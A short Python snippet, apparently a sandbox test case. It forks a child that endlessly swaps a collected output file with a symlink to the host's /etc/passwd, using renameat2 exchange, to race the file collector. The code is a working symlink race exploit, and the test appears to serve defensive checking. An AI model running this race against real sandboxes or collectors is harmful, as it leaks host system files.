# A child swaps a collected file with a link to the host's, for ever.
os.mkdir("out")
with open("out/f", "w") as f:
    f.write("honest\n")
os.symlink("/etc/passwd", "out/g")
if os.fork() == 0:
    os.setsid()
    while True:
        call(316 if X86 else 276, -100, b"out/f", -100, b"out/g", 2)
time.sleep(0.05)
done()
